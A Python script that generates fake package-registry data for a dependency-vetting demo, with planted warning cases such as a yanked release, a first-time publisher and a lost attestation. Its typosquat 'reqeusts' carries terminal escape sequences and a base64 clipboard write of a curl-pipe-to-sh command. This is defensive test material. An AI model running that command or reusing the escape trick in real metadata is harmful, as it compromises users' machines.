PYPI_POPULAR = list(dict.fromkeys(PYPI_POPULAR))


def popular_lists(api):
    # hex.pm's ranking is read until a page names no package: one more page
    for page in range(1, (len(HEX_POPULAR) + 99) // 100 + 2):
        chunk = HEX_POPULAR[(page - 1) * 100: page * 100]
        rows = [{"name": n, "html_url": "https://hex.pm/packages/" + n,
                 "downloads": {"all": 170000000 * 985 ** ((page - 1) * 100 + i) // 1000 ** ((page - 1) * 100 + i)}}
                for i, n in enumerate(chunk)]
        write(query_name("%s/packages" % api, "sort=downloads&page=%d" % page), rows)
    count = 1450000000
    rows = []
    for n in PYPI_POPULAR:
        rows.append({"download_count": count, "project": n})
        count = count * 97 // 100
    write("top-pypi-packages.min.json",
          json.dumps({"last_update": "2024-11-01 07:12:44", "query": {"bytes_billed": 0, "bytes_processed": 0,
                      "cached": False, "estimated_cost": "0.00"}, "rows": rows}, separators=(",", ":")) + "\n")


def npm_popular():
    """npm's popular list as the registry serves it: the npm-high-impact
    package (packument and tarball), its lists cut to the demo's depth
    (tools/npm-high-impact/: the first 3,000 most downloaded and 1,000
    most depended-upon names of the real package, MIT, wooorm)."""
    here = os.path.join(os.path.dirname(os.path.abspath(__file__)), "npm-high-impact")
    members = []
    for fn, var in (("top-download", "topDownload"), ("top-dependent", "topDependent")):
        with open(os.path.join(here, fn + ".txt"), encoding="utf-8") as f:
            names = [n.strip() for n in f if n.strip()]
        body = "export const %s = [\n%s]\n" % (var, "".join("  '%s',\n" % n for n in names))
        members.append(("package/lib/%s.js" % fn, body.encode()))
    with open(os.path.join(here, "LICENSE"), "rb") as f:
        members.append(("package/license", f.read()))
    version = "1.9.0"
    members.append(("package/package.json", json.dumps({"name": "npm-high-impact", "version": version,
                                                         "license": "MIT", "type": "module"}).encode()))
    tgz = arc.tar_bytes(members, True)
    fn = "npm-high-impact-%s.tgz" % version
    write_bytes("npm/npm-high-impact/-/" + fn, tgz)
    sri = "sha512-" + base64.b64encode(hashlib.sha512(tgz).digest()).decode()
    when = iso(SNAPSHOT_DATE - timedelta(days=18))
    write("npm/npm-high-impact/index.json",
          {"_id": "npm-high-impact", "name": "npm-high-impact",
           "description": "The high-impact (popular) packages of npm", "dist-tags": {"latest": version},
           "versions": {version: {"name": "npm-high-impact", "version": version, "license": "MIT",
                                  "dist": {"tarball": "https://registry.npmjs.org/npm-high-impact/-/" + fn,
                                           "integrity": sri,
                                           "shasum": hashlib.sha1(tgz).hexdigest()}}},
           "time": {"created": "2022-11-04T12:17:24.000Z", "modified": when, version: when},
           "maintainers": [{"name": "wooorm", "email": npm_email("wooorm")}], "license": "MIT",
           "repository": {"type": "git", "url": "git+https://github.com/wooorm/npm-high-impact.git"}})


# ---- PyPI ---------------------------------------------------------------------

# name: summary, licence, repository, owners, releases, pypistats (day, week,
# month), deps.dev dependents (all, direct), requires_python, requires_dist
PYPI = {
    "cloudpickle": ("Pickler class to extend the standard pickle.Pickler functionality", "BSD-3-Clause",
                    "cloudpipe/cloudpickle", ["ogrisel", "pierreglaser"],
                    "2.2.0@2022-09-12 2.2.1@2023-01-19 3.0.0@2023-10-16 3.1.0@2024-10-11",
                    (1104877, 7912031, 33450122), (2311, 1408), ">=3.8", []),
    "gym": ("Gym: A universal API for reinforcement learning environments", "MIT", "openai/gym",
            ["jkterry", "openai-gym"],
            "0.21.0@2021-10-02 0.22.0@2022-02-17 0.23.0@2022-03-04 0.23.1@2022-03-11 0.24.0@2022-05-25 "
            "0.24.1@2022-06-07 0.25.0@2022-07-14 0.25.1@2022-07-26 0.25.2@2022-08-18 0.26.0@2022-09-06 "
            "0.26.1@2022-09-16 0.26.2@2022-10-04",
            (57840, 401229, 1650388), (3841, 2107), ">=3.6",
            ["numpy>=1.18.0", "cloudpickle>=1.2.0", "gym-notices>=0.0.4",
             "importlib-metadata>=4.8.0; python_version < \"3.10\"",
             "pygame==2.1.0; extra == \"classic_control\"", "pytest==7.0.1; extra == \"testing\""]),
    "gym-notices": ("Notices for gym", "MIT", "Farama-Foundation/gym-notices", ["jkterry"],
                    "0.0.4@2021-10-02 0.0.6@2022-02-17 0.0.7@2022-06-16 0.0.8@2022-08-01",
                    (51022, 355871, 1460014), (212, 37), None, []),
    "numpy": ("Fundamental package for array computing in Python", "BSD-3-Clause", "numpy/numpy",
              ["charris", "rgommers", "mattip"],
              "1.26.0@2023-09-16 1.26.1@2023-10-14 1.26.2@2023-11-12 1.26.3@2024-01-02 1.26.4@2024-02-05 "
              "2.0.0@2024-06-16 2.0.1@2024-07-21 2.1.0@2024-08-18 2.0.2@2024-08-26 2.1.1@2024-09-03 "
              "2.1.2@2024-10-05 2.1.3@2024-11-03",
              (8402116, 57330981, 246120377), (296533, 120488), ">=3.9", []),
    "pygame": ("Python Game Development", "LGPL-2.1-only", "pygame/pygame", ["illume", "pygameci"],
               "2.4.0@2023-04-24 2.5.0@2023-06-24 2.5.1@2023-08-17 2.5.2@2023-09-22 2.6.0@2024-06-25 "
               "2.6.1@2024-09-29",
               (42310, 301554, 1299871), (9114, 8032), ">=3.6", []),
    "tqdm": ("Fast, Extensible Progress Meter", "MPL-2.0 AND MIT", "tqdm/tqdm", ["casperdcl", "lrq3000"],
             "4.66.0@2023-08-09 4.66.1@2023-08-09 4.66.2@2024-02-17 4.66.3@2024-05-02 4.66.4@2024-05-03 "
             "4.66.5@2024-08-03 4.66.6@2024-10-28 4.67.0@2024-11-06",
             (3101245, 21440918, 92007741), (98770, 61342), ">=3.7",
             ["colorama; platform_system == \"Windows\"", "pytest>=6; extra == \"dev\"",
              "requests; extra == \"telegram\""]),
    # The typosquat: one transposed letter from "requests", twelve days old,
    # no repository, and a summary that tries to write to the terminal
    # (erase line, an OSC 52 clipboard write, right-to-left override).
    "reqeusts": ("Python HTTP for Humans.\x1b[2K\x1b]52;c;Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC9pIHwgc2gK\x07"
                 " \u202etxt.lanif\u202c", "Apache-2.0", None, ["pyhttp-dev"],
                 "2.31.0@2024-11-03 2.31.1@2024-11-05",
                 (4, 23, 31), (0, 0), ">=3.7", []),
}
GYM_YANK = ("gym is no longer maintained (its last release was 0.26.2); switch to gymnasium, "
            "its maintained successor by the Farama Foundation")


def pypi_file(name, v, published, kind, yanked, data=None):
    """One file of a release; data, when the demo ships the file, is written
    under pypi-files/ (DEPVET_PYPI_FILES_URL) and gives the digests."""
    stem = name.replace("-", "_")
    if kind == "sdist":
        fn, pt, pv = "%s-%s.tar.gz" % (name, v), "sdist", "source"
    else:
        fn, pt, pv = "%s-%s-py3-none-any.whl" % (stem, v), "bdist_wheel", "py3"
    sha = hashlib.sha256(data).hexdigest() if data else fake_digest("pypi", name, v, fn)
    md5 = hashlib.md5(data).hexdigest() if data else sha[:32]
    size = len(data) if data else 20000 + int(sha[:5], 16) % 900000
    if data:
        write_bytes("pypi-files/packages/%s/%s/%s/%s" % (sha[:2], sha[2:4], sha[4:], fn), data)
    return {"comment_text": "", "digests": {"blake2b_256": fake_digest("b2", fn), "md5": md5, "sha256": sha},
            "downloads": -1, "filename": fn, "has_sig": False, "md5_digest": md5, "packagetype": pt,
            "python_version": pv, "requires_python": None, "size": size,
            "upload_time": iso(published, micro=False)[:-1],
            "upload_time_iso_8601": iso(published),
            "url": "https://files.pythonhosted.org/packages/%s/%s/%s/%s" % (sha[:2], sha[2:4], sha[4:], fn),
            "yanked": yanked, "yanked_reason": GYM_YANK if yanked else None}


def pypi_info(name, spec, v):
    summary, lic, repo, owners, _r, _dl, _dd, req_py, req_dist = spec
    urls = {"Homepage": GH + repo, "Source": GH + repo} if repo else {}
    return {"author": "" if repo else "requests maintainers",
            "author_email": "" if repo else "pyhttp-dev@mailbox.example",
            "classifiers": ["Programming Language :: Python :: 3"], "description": summary,
            "description_content_type": "text/markdown", "home_page": GH + repo if repo else "",
            "license": lic, "license_expression": lic, "maintainer": "", "maintainer_email": "",
            "name": name, "package_url": "https://pypi.org/project/%s/" % name,
            "project_url": "https://pypi.org/project/%s/" % name, "project_urls": urls,
            "release_url": "https://pypi.org/project/%s/%s/" % (name, v), "requires_dist": req_dist or None,
            "requires_python": req_py, "summary": summary, "version": v,
            "yanked": name == "gym" and v == "0.26.2",
            "yanked_reason": GYM_YANK if name == "gym" and v == "0.26.2" else None}


# The typosquat ships sdists only: pip then runs its setup.py.
PYPI_KINDS = {"reqeusts": ("sdist",)}


def pypi_bytes(name, spec, v, order, kind):
    make = arc.pypi_sdist if kind == "sdist" else arc.pypi_wheel
    return make(name, v, order, spec[0], spec[8])


def pypi_files(pins):
    for name, spec in PYPI.items():
        rels = [r for r in releases(spec[4]) if r[1] <= SNAPSHOT_DATE]
        pin = pins[name]
        when = dict(rels)
        yank = lambda v: name == "gym" and v == "0.26.2"
        latest = [v for v, _ in rels if not yank(v)][-1]
        order = [v for v, _ in rels]
        shipped = arc.shipped_versions(order, pin, latest)
        files = {v: [pypi_file(name, v, d, k, yank(v), pypi_bytes(name, spec, v, order, k) if v in shipped else None)
                     for k in PYPI_KINDS.get(name, ("sdist", "wheel"))] for v, d in rels}
        roles = [{"role": "Owner" if i == 0 else "Maintainer", "user": u} for i, u in enumerate(spec[3])]
        write("pypi/pypi/%s/json" % name,
              {"info": pypi_info(name, spec, latest), "last_serial": 20000000 + len(name) * 1111,
               "ownership": {"organization": None, "roles": roles},
               "releases": files, "urls": files[latest], "vulnerabilities": []})
        for v, _d in rels:   # every release's own document (its requires_dist)
            write("pypi/pypi/%s/%s/json" % (name, v),
                  {"info": pypi_info(name, spec, v), "last_serial": 20000000 + len(name) * 1111,
                   "ownership": {"organization": None, "roles": roles},
                   "urls": files[v], "vulnerabilities": []})
        d, w, m = spec[5]
        write("pypistats/packages/%s/recent" % name,
              {"data": {"last_day": d, "last_month": m, "last_week": w}, "package": name,
               "type": "recent_downloads"})
        versions = [{"versionKey": {"system": "PYPI", "name": name, "version": v},
                     "publishedAt": iso(dd, micro=False), "isDefault": v == latest} for v, dd in rels]
        write("depsdev/v3/systems/pypi/packages/%s" % name,
              {"packageKey": {"system": "PYPI", "name": name}, "versions": versions})
        alls, direct = spec[6]
        counts = {} if not alls else {"dependentCount": alls, "directDependentCount": direct,
                                      "indirectDependentCount": alls - direct}
        write("depsdev/v3alpha/systems/pypi/packages/%s/versions/%s:dependents" % (name, pin), counts)
        if pin not in when:
            raise SystemExit("%s: pinned %s missing" % (name, pin))


# ---- npm (backend/assets) ------------------------------------------------------

# name: description, licence, repository, maintainers, releases, weekly
# download level, deps.dev dependents (all, direct); optional publishers
# per version (default: the first maintainer).
NPM = {
    "alpinejs": ("The rugged, minimal JavaScript framework", "MIT", "alpinejs/alpine", ["calebporzio"],
                 "3.12.3@2023-07-05 3.13.0@2023-08-22 3.13.1@2023-10-05 3.13.2@2023-10-27 3.13.3@2023-11-21 "
                 "3.13.5@2024-01-23 3.14.0@2024-05-21 3.14.1@2024-06-18 3.14.3@2024-10-23",
                 212000, (8712, 6120)),
    "@vue/reactivity": ("@vue/reactivity", "MIT", "vuejs/core", ["yyx990803", "posva"],
                        "3.1.3@2021-06-25 3.1.4@2021-07-01 3.1.5@2021-07-16 3.2.0@2021-08-09 3.4.38@2024-08-15 "
                        "3.5.12@2024-10-11",
                        5300000, (10233, 4802)),
    "@vue/shared": ("internal utils shared across @vue packages", "MIT", "vuejs/core", ["yyx990803", "posva"],
                    "3.1.3@2021-06-25 3.1.4@2021-07-01 3.1.5@2021-07-16 3.2.0@2021-08-09 3.4.38@2024-08-15 "
                    "3.5.12@2024-10-11",
                    6100000, (9401, 2208)),
    "chart.js": ("Simple HTML5 charts using the canvas element.", "MIT", "chartjs/Chart.js",
                 ["etimberg", "kurkle"],
                 "4.3.0@2023-05-02 4.3.3@2023-07-31 4.4.0@2023-08-28 4.4.1@2023-12-04 4.4.2@2024-02-26 "
                 "4.4.3@2024-05-20 4.4.4@2024-08-08 4.4.5@2024-10-17 4.4.6@2024-10-29",
                 2900000, (41022, 30310)),
    "@kurkle/color": ("css color parsing, manupulation and conversion", "MIT", "kurkle/color", ["kurkle"],
                      "0.2.1@2022-06-08 0.3.0@2022-11-24 0.3.1@2022-12-02 0.3.2@2022-12-21 0.3.4@2024-10-18",
                      2850000, (1102, 96)),
    # The first-time publisher: 2.0.2 is the first release by a publisher
    # the package had not seen before.
    "topbar": ("Tiny & beautiful site-wide progress indicator", "MIT", "buunguyen/topbar",
               ["buunguyen", "topbar-maint"],
               "0.1.3@2014-06-04 0.1.4@2019-04-03 1.0.0@2020-04-29 1.0.1@2020-05-01 2.0.0@2023-03-10 "
               "2.0.1@2023-06-15 2.0.2@2023-12-28",
               161000, (812, 604), {"2.0.2": "topbar-maint"}),
}
NPM_EMAIL = {"topbar-maint": "topbar.maint@mailbox.example"}
# Provenance: the releases published from CI with npm's attestations (SLSA
# provenance naming the repository and workflow), but for the ones listed
# as published without.  chart.js's latest lost its attestation: the demo's
# case of a release published outside the trusted workflow.
NPM_PROVENANCE = {"chart.js": (".github/workflows/release.yml", {"4.4.6"})}


def npm_email(user):
    return NPM_EMAIL.get(user, user + "@example.com")


def read_npm_lock():
    with open(os.path.join(DEMO, "backend", "assets", "package-lock.json"), encoding="utf-8") as f:
        lock = json.load(f)
    return {k[len("node_modules/"):]: v for k, v in lock["packages"].items() if k.startswith("node_modules/")}


def npm_attestations(name, v, repo, workflow):
    """The attestations endpoint's answer: one bundle whose DSSE payload is
    the SLSA v1 provenance statement (signatures are placeholders)."""
    purl = "pkg:npm/%s@%s" % (name.replace("@", "%40"), v)
    stmt = {"_type": "https://in-toto.io/Statement/v1",
            "subject": [{"name": purl, "digest": {"sha512": fake_digest("npm", name, v)}}],
            "predicateType": "https://slsa.dev/provenance/v1",
            "predicate": {"buildDefinition": {
                "buildType": "https://slsa-framework.github.io/github-actions-buildtypes/workflow/v1",
                "externalParameters": {"workflow": {"ref": "refs/tags/v" + v,
                                                    "repository": "https://github.com/" + repo,
                                                    "path": workflow}}},
                "runDetails": {"builder": {"id": "https://github.com/actions/runner/github-hosted"}}}}
    payload = base64.b64encode(json.dumps(stmt, separators=(",", ":")).encode()).decode()
    return {"attestations": [{"predicateType": "https://slsa.dev/provenance/v1", "bundle": {
        "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
        "dsseEnvelope": {"payload": payload, "payloadType": "application/vnd.in-toto+json",
                         "signatures": [{"sig": "MEUCIQ-demo", "keyid": ""}]}}}]}


def npm_provenance(name, spec, doc, pin):
    """dist.attestations on the attested releases, and the attestations
    answers of the pin and the latest (what a refresh asks)."""
    if name not in NPM_PROVENANCE:
        return
    workflow, unattested = NPM_PROVENANCE[name]
    for v, ver in doc["versions"].items():
        if v in unattested:
            continue
        url = "https://registry.npmjs.org/-/npm/v1/attestations/%s@%s" % (name, v)
        ver["dist"]["attestations"] = {"url": url, "provenance": {"predicateType": "https://slsa.dev/provenance/v1"}}
        if v in (pin, doc["dist-tags"]["latest"]):
            write("npm/-/npm/v1/attestations/%s@%s" % (name, v), npm_attestations(name, v, spec[2], workflow))


def npm_version(name, v, spec, pin, publisher, shipped):
    """shipped: {version: (integrity, shasum, scripts)} of the archives."""
    base = name.split("/")[-1]
    integrity, shasum, scripts = shipped.get(v, ("sha512-" + fake_digest("npm", name, v)[:86] + "==",
                                                 fake_digest("sha1", name, v)[:40], None))
    doc = {"name": name, "version": v, "description": spec[0], "license": spec[1],
           "repository": {"type": "git", "url": "git+https://github.com/%s.git" % spec[2]},
           "main": "dist/%s.js" % base, "_id": "%s@%s" % (name, v),
           "_npmUser": {"name": publisher, "email": npm_email(publisher)},
           "maintainers": [{"name": m, "email": npm_email(m)} for m in spec[3]],
           "dist": {"tarball": "https://registry.npmjs.org/%s/-/%s-%s.tgz" % (name, base, v),
                    "integrity": integrity, "shasum": shasum,
                    "fileCount": 12, "unpackedSize": 40000 + len(name) * 1000}}
    if pin and pin.get("dependencies"):   # every release: the metadata diff compares them
        doc["dependencies"] = pin["dependencies"]
    if scripts:
        doc["scripts"] = scripts
    return doc


def npm_archives(name, spec, order, lock_entry):
    """Writes the shipped tarballs (under the packument's folder, as the
    registry's URLs are); the lock entry takes the pin's integrity."""
    shipped = {}
    base = name.split("/")[-1]
    for v in arc.shipped_versions(order, lock_entry["version"], order[-1]):
        tgz, scripts = arc.npm_archive(name, v, order, spec[0], lock_entry.get("dependencies"))
        write_bytes("npm/%s/-/%s-%s.tgz" % (name, base, v), tgz)
        shipped[v] = (arc.sri(tgz), hashlib.sha1(tgz).hexdigest(), scripts)
        if v == lock_entry["version"]:
            lock_entry["integrity"] = shipped[v][0]
            if scripts:
                lock_entry["hasInstallScript"] = True
    return shipped


def npm_downloads(name, level, start, end):
    seed = int(hashlib.sha256(name.encode()).hexdigest(), 16)
    days, d, i = [], start, 0
    while d <= end:
        weekday = d.weekday() < 5
        trend = 1 + 0.25 * i / 84
        wobble = 1 + ((seed >> (i % 64)) & 15) / 100
        n = int(level / 7 * (1.25 if weekday else 0.45) * trend * wobble)
        days.append({"downloads": n, "day": d.isoformat()})
        d += timedelta(days=1)
        i += 1
    return {"start": start.isoformat(), "end": end.isoformat(), "package": name, "downloads": days}


def npm_files():
    lock_path = os.path.join(DEMO, "backend", "assets", "package-lock.json")
    with open(lock_path, encoding="utf-8") as f:
        lock = json.load(f)
    pins = read_npm_lock()
    if set(pins) ^ set(NPM):
        raise SystemExit("npm tables and package-lock.json disagree: %s" % sorted(set(pins) ^ set(NPM)))
    start = SNAPSHOT_DATE - timedelta(days=84)
    end = SNAPSHOT_DATE - timedelta(days=1)
    for name, spec in NPM.items():
        rels = [r for r in releases(spec[4]) if r[1] <= SNAPSHOT_DATE]
        publishers = spec[7] if len(spec) > 7 else {}
        latest = rels[-1][0]
        shipped = npm_archives(name, spec, [v for v, _ in rels], lock["packages"]["node_modules/" + name])
        times = {"created": iso(rels[0][1] - timedelta(days=1)), "modified": iso(rels[-1][1], 14)}
        times.update({v: iso(d) for v, d in rels})
        doc = {"_id": name, "name": name, "description": spec[0], "dist-tags": {"latest": latest},
               "versions": {v: npm_version(name, v, spec, pins[name], publishers.get(v, spec[3][0]), shipped)
                            for v, _ in rels},
               "time": times, "maintainers": [{"name": m, "email": npm_email(m)} for m in spec[3]],
               "license": spec[1], "homepage": "https://github.com/%s#readme" % spec[2],
               "repository": {"type": "git", "url": "git+https://github.com/%s.git" % spec[2]},
               "readmeFilename": "README.md"}
        npm_provenance(name, spec, doc, pins[name]["version"])
        write("npm/%s/index.json" % name, doc)   # a folder: it holds the tarballs too
        write("npmdl/downloads/range/%s:%s/%s" % (start, end, name),
              npm_downloads(name, spec[5], start, end))
        versions = [{"versionKey": {"system": "NPM", "name": name, "version": v},
                     "publishedAt": iso(d, micro=False), "isDefault": v == latest} for v, d in rels]
        write("depsdev/v3/systems/npm/packages/%s" % name,
              {"packageKey": {"system": "NPM", "name": name}, "versions": versions})
        alls, direct = spec[6]
        write("depsdev/v3alpha/systems/npm/packages/%s/versions/%s:dependents" % (name, pins[name]["version"]),
              {"dependentCount": alls, "directDependentCount": direct,
               "indirectDependentCount": alls - direct})
    with open(lock_path, "w", encoding="utf-8") as f:
        f.write(json.dumps(lock, indent=2) + "\n")


def read_requirements():
    pins = {}
    with open(os.path.join(DEMO, "training", "requirements.txt"), encoding="utf-8") as f:
        for line in f:
            m = re.match(r"^([A-Za-z0-9_.-]+)==([^\s]+)", line)
            if m:
                pins[m.group(1).lower()] = m.group(2)
    return pins


def main():
    if os.path.isdir(OUT):
        for sub in ("hex", "pypi", "pypi-files", "pypistats", "depsdev", "history", "npm", "npmdl"):
            shutil.rmtree(os.path.join(OUT, sub), ignore_errors=True)
    pins = read_mix_lock()
    pins.update(read_gleam_manifest())
    missing = set(pins) ^ set(HEX)
    if missing:
        raise SystemExit("Hex tables and lockfiles disagree: %s" % sorted(missing))
    outer_of = hex_archives(pins)
    hex_files("hex/api", pins, outer_of)
    hex_history(pins, outer_of)
    popular_lists("hex/api")
    pypins = read_requirements()
    if set(pypins) ^ set(PYPI):
        raise SystemExit("PyPI tables and requirements.txt disagree: %s" % sorted(set(pypins) ^ set(PYPI)))
    pypi_files(pypins)
    npm_files()
    npm_popular()
    write("DATE", SNAPSHOT_DATE.isoformat() + "\n")


if __name__ == "__main__":
    main()
